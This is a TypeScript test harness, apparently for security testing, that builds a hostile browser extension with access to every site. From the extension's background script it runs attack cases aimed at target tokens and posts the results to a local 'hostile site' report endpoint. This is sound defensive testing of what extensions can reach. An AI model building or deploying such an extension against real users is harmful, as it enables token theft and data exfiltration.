import fs from "node:fs";
import type { TempRoot } from "@baa/test-kit";
import type { BrowserName, TestBrowser } from "@baa/test-kit/browser";
import type { AttackCase, PageResults } from "./attack-plan.ts";
import { ATTACK_SCRIPT, type HostileSite } from "./hostile-site.ts";

const BACKGROUND = `import { runAttacks } from "./page-attacks.mjs";
const attack = async () => {
  const { cases, options } = await (await fetch("plan.json")).json();
  const results = await runAttacks(cases, options);
  await fetch(options.site + "/report", { method: "POST", body: JSON.stringify(results) });
};
void attack();`;

/** What its kind of page can do: an extension's background has no document in Chromium. */
export const isForExtensions = (name: string): boolean =>
  /^(?:fetch|WebSocket)/.test(name) && !name.includes("stolen") && !name.includes("redirect");

/** Installs an extension of somebody else's that may ask every site, and attacks from its background. */
export async function attackFromExtension(
  o: { browser: TestBrowser; site: HostileSite; scratch: TempRoot; body: string },
  cases: readonly AttackCase[],
): Promise<PageResults> {
  const { browser, site } = o;
  const dir = o.scratch.dir(`extension-${browser.name}`);
  const write = (name: string, content: string | Buffer): void => fs.writeFileSync(`${dir}/${name}`, content);
  const told = cases.map(({ id, name, url, target }) => ({ id, name, url, token: target.token }));
  write("plan.json", JSON.stringify({ cases: told, options: { body: o.body, site: site.at("127.0.0.1") } }));
  write("page-attacks.mjs", ATTACK_SCRIPT);
  write("background.mjs", BACKGROUND);
  write("manifest.json", JSON.stringify(manifest(browser.name)));
  const report = site.nextReport();
  await browser.installExtension(dir);
  return JSON.parse(await report) as PageResults;
}

const manifest = (name: BrowserName): object => ({
  manifest_version: 3,
  name: "a stranger",
  version: "1",
  host_permissions: ["<all_urls>"],
  // Firefox's default would make wss: of ws:.
  content_security_policy: { extension_pages: "script-src 'self'" },
  ...(name === "firefox"
    ? {
        background: { scripts: ["background.mjs"], type: "module" },
        browser_specific_settings: { gecko: { id: "stranger@example.net" } },
      }
    : { background: { service_worker: "background.mjs", type: "module" } }),
});
